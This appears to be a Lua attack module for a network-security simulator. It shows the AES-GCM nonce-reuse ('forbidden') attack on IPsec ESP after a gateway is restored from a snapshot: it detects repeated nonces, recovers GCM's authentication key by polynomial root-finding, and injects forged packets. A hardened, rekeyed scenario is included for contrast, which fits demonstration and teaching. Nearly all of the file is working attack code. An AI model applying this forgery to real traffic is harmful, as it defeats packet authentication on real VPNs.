-- AES-GCM wants each nonce once. ESP counts, so that it is; but a virtual machine that is set back to a snapshot counts the same numbers again, under the
-- same key. Two packets under one nonce give an equation for the key that GCM authenticates with, H, and nothing else is unknown in it:
--   ICV + ICV' = sum of (block + block') * H^k   over the blocks of header, ciphertext and lengths, in GF(2^128).
-- Its solutions are few, and other pairs, or a try, say which one is H. With H anybody can make an ICV that fits.
attack = {
  id = "A27", name = "nonce-reuse",
  about = "Finds ESP packets under a nonce that was used twice, computes GCM's authentication key from them, and forges a packet",
  position = "on-path",
  needs = "to hear the packets before and after a gateway is set back to a snapshot; no key",
  source = "RFC 4106, 3.1; Joux, Authentication Failures in NIST version of GCM (2006); catalogue A27",
  shows = {
    vulnerable = "pairs of packets give H: a packet with a sequence number that was never sent is accepted and answered",
    hardened = "the gateway takes new keys before it sends: no nonce comes twice, and there is no equation",
  },
  scenarios = { vulnerable = "nonce-reuse", hardened = "nonce-reuse-rekeyed" },
}

-- Parameters: from = "gw-a" (who is set back), solve = "9500ms" (when the work begins; the traffic is over then)
local from, solve = "gw-a", "9500ms"
local goal = "forge an ESP packet without its key"
local zero, one = ("\0"):rep(16), "\128" .. ("\0"):rep(15)
local seen, pairs_found, highest = {}, {}, {}
local candidates, tried, forged = {}, 0, nil
local heard, keys = 0, 0

function on_start(params)
  from, solve = params.from or from, params.solve or solve
  timer.after(solve, "solve")
end

on({ protocol = "ESP" }, function(p)
  if forged and p.from ~= from then
    if not forged.answered then
      forged.answered = true
      learn("H", "the key that GCM authenticates with", "the solution of the equation of two packets under one nonce whose ICV was accepted", forged.h)
      achieved(goal, true, "the packet with sequence number " .. forged.sequence .. ", which " .. from .. " never sent, was accepted and answered")
    end
    return
  end
  local header = esp.header(p.payload)
  if not header or p.from ~= from or #p.payload < 33 then return end
  heard = heard + 1
  if not highest[header.spi] then keys = keys + 1 end
  highest[header.spi] = math.max(highest[header.spi] or 0, header.sequence)
  local key = header.spi .. ":" .. header.sequence
  local before = seen[key]
  seen[key] = before or { octets = p.payload, sequence = header.sequence, spi = header.spi, packet = p }
  if not before or before.octets == p.payload then return end
  pairs_found[#pairs_found + 1] = { before.octets, p.payload, sequence = header.sequence, spi = header.spi, packet = before.packet }
  if #pairs_found == 1 then
    mark("Sequence number " .. header.sequence .. " comes again under the same key, with another packet: a nonce is used twice.")
    learn("nonce", "sequence number and IV " .. header.sequence .. " of SA " .. header.spi .. " bear two different packets",
      "the header is readable", p.payload:sub(1, 16))
  end
end)

-- ---- GHASH as a polynomial in H: [k] is the coefficient of H^k ----------------------------------------

-- octets: SPI (4), sequence (4), IV (8), ciphertext, ICV (16)
local function polynomial(octets)
  local aad, text = octets:sub(1, 8), octets:sub(17, #octets - 16)
  local blocks = { aad .. ("\0"):rep(8) }
  for at = 1, #text, 16 do
    local block = text:sub(at, at + 15)
    blocks[#blocks + 1] = block .. ("\0"):rep(16 - #block)
  end
  blocks[#blocks + 1] = string.pack(">I8I8", #aad * 8, #text * 8)
  local p = { [0] = octets:sub(-16), n = #blocks }
  for i = 1, #blocks do p[#blocks + 1 - i] = blocks[i] end
  return p
end

local function trim(p)
  while p.n > 0 and p[p.n] == zero do p.n = p.n - 1 end
  return p
end
local function sum(a, b)
  local p = { n = math.max(a.n, b.n) }
  for k = 0, p.n do p[k] = gcm.add(k <= a.n and a[k] or zero, k <= b.n and b[k] or zero) end
  return trim(p)
end
local function value(p, x)
  local v = p[p.n]
  for k = p.n - 1, 0, -1 do v = gcm.add(gcm.multiply(v, x), p[k]) end
  return v
end
local function inverse(a)   -- a^(2^128 - 2)
  local result, power = one, a
  for _ = 1, 127 do
    power = gcm.multiply(power, power)
    result = gcm.multiply(result, power)
  end
  return result
end
local function monic(p)
  local by = inverse(p[p.n])
  local q = { n = p.n }
  for k = 0, p.n do q[k] = gcm.multiply(p[k], by) end
  return q
end
-- a mod f, f monic
local function reduced(a, f)
  local p = { n = a.n }
  for k = 0, a.n do p[k] = a[k] end
  for k = p.n, f.n, -1 do
    local lead = p[k]
    if lead ~= zero then
      for j = 0, f.n do p[k - f.n + j] = gcm.add(p[k - f.n + j], gcm.multiply(lead, f[j])) end
    end
  end
  p.n = math.min(p.n, math.max(f.n - 1, 0))
  return trim(p)
end
local function gcd(a, b)
  while b.n > 0 or b[0] ~= zero do
    b = monic(b)
    a, b = b, reduced(a, b)
    if a.n == 0 then break end
  end
  return monic(a)
end
-- p^2 mod f: squaring is linear in characteristic 2, so x^0, x^2, x^4 ... mod f are enough.
local function squares_of(f)
  local rows = {}
  for k = 0, f.n - 1 do
    local x = { n = 2 * k }
    for j = 0, 2 * k do x[j] = zero end
    x[2 * k] = one
    rows[k] = reduced(x, f)
  end
  return rows
end
local function squared(p, rows, n)
  local q = { n = n - 1 }
  for j = 0, n - 1 do q[j] = zero end
  for k = 0, p.n do
    if p[k] ~= zero then
      local c, row = gcm.multiply(p[k], p[k]), rows[k]
      for j = 0, row.n do
        if row[j] ~= zero then q[j] = gcm.add(q[j], gcm.multiply(c, row[j])) end
      end
    end
  end
  return trim(q)
end

-- ---- the work, in parts --------------------------------------------------------------------------

local work
-- Roots of f: gcd(f, x^(2^128) - x) holds each once; Tr(b x) for random b tells them apart.
local function next_split(f)
  if f.n == 0 then return end
  if f.n == 1 then work.roots[#work.roots + 1] = f[0] return end   -- monic: x + root
  local b = work.first and one or crypto.random(16)
  local p = reduced({ n = 1, [0] = zero, [1] = b }, f)
  work.part = { f = f, p = p, total = work.first and nil or p, rows = squares_of(f), done = 0, first = work.first }
  work.first = false
end

-- A packet under another sequence number: its plaintext is what it was, and its ICV is made with this solution. The right one is answered.
local function try_next()
  local pair = pairs_found[1]
  tried = tried + 1
  local h = candidates[tried]
  if not h then return achieved(goal, false, "no solution makes an ICV that fits") end
  local sequence = highest[pair.spi] + 4 + tried
  local old = pair[1]
  local new = old:sub(1, 4) .. string.pack(">I4", sequence) .. old:sub(9)
  local a, b = polynomial(old), polynomial(new)
  a[0], b[0] = zero, zero
  local icv = gcm.add(old:sub(-16), gcm.add(value(a, h), value(b, h)))
  forged = { sequence = sequence, h = h }
  if tried == 1 then mark("mallory has " .. #candidates .. " candidate" .. (#candidates > 1 and "s" or "") .. " for H, and sends packets that " .. from .. " never sent.") end
  inject{ src = pair.packet.src, dst = pair.packet.dst, protocol = "ESP", to = pair.packet.to, payload = new:sub(1, -17) .. icv,
    note = "packet " .. pair.sequence .. " under the new sequence number " .. sequence .. ", ICV made with solution " .. tried }
  timer.after("250ms", "try")
end

local function finish()
  for _, root in ipairs(work.roots) do
    local fits = true
    for i = 2, #pairs_found do
      local pair = pairs_found[i]
      if pair.spi == pairs_found[1].spi and value(sum(polynomial(pair[1]), polynomial(pair[2])), root) ~= zero then fits = false end
    end
    if fits then candidates[#candidates + 1] = root end
  end
  say("solutions: " .. #work.roots .. "; of these solve the equations of all " .. #pairs_found .. " pairs: " .. #candidates)
  try_next()
end

local function step()
  local part = work.part
  if not part then
    local f = table.remove(work.queue)
    if not f then return finish() end
    next_split(f)
    return timer.after("1ms", "step")
  end
  local last = math.min(part.done + 16, part.first and 128 or 127)
  while part.done < last do
    part.p = squared(part.p, part.rows, part.f.n)
    if part.total then part.total = sum(part.total, part.p) end
    part.done = part.done + 1
  end
  progress(part.first and "x^(2^128) mod the equation" or "telling solutions apart", part.done, part.first and 128 or 127)
  if part.done == (part.first and 128 or 127) then
    work.part = nil
    local other = part.first and sum(part.p, { n = 1, [0] = zero, [1] = one }) or part.total
    local g = (other.n == 0 and other[0] == zero) and part.f or gcd(part.f, other)
    if part.first then
      work.queue[#work.queue + 1] = g
    elseif g.n == 0 or g.n == part.f.n then
      work.queue[#work.queue + 1] = part.f        -- another b
    else
      work.queue[#work.queue + 1] = g
      work.quotient = { f = part.f, g = g }
    end
  end
  if work.quotient then
    local f, g = work.quotient.f, work.quotient.g
    local p, q = { n = f.n }, { n = f.n - g.n }
    for k = 0, f.n do p[k] = f[k] end
    for k = f.n, g.n, -1 do
      local lead = p[k]
      q[k - g.n] = lead
      for j = 0, g.n do p[k - g.n + j] = gcm.add(p[k - g.n + j], gcm.multiply(lead, g[j])) end
    end
    work.queue[#work.queue + 1] = q
    work.quotient = nil
  end
  timer.after("1ms", "step")
end

function on_timer(label)
  if label == "step" then return step() end
  if label == "try" then
    if not forged.answered then try_next() end
    return
  end
  if #pairs_found == 0 then
    say(heard .. " packets of " .. from .. " heard, under " .. keys .. " keys one after another; every number came once")
    return achieved(goal, false, "no nonce was used twice")
  end
  -- The pair with the shortest equation goes first.
  local function degree(pair) return sum(polynomial(pair[1]), polynomial(pair[2])).n end
  for i = 2, #pairs_found do
    if degree(pairs_found[i]) < degree(pairs_found[1]) then pairs_found[1], pairs_found[i] = pairs_found[i], pairs_found[1] end
  end
  local f = monic(sum(polynomial(pairs_found[1][1]), polynomial(pairs_found[1][2])))
  say(#pairs_found .. " pairs of packets under one nonce; the equation has degree " .. f.n)
  work = { roots = {}, queue = { f }, first = true }
  timer.after("1ms", "step")
end

function on_finish()
  if forged and not forged.answered and candidates[tried] then achieved(goal, false, "no forged packet was answered") end
end
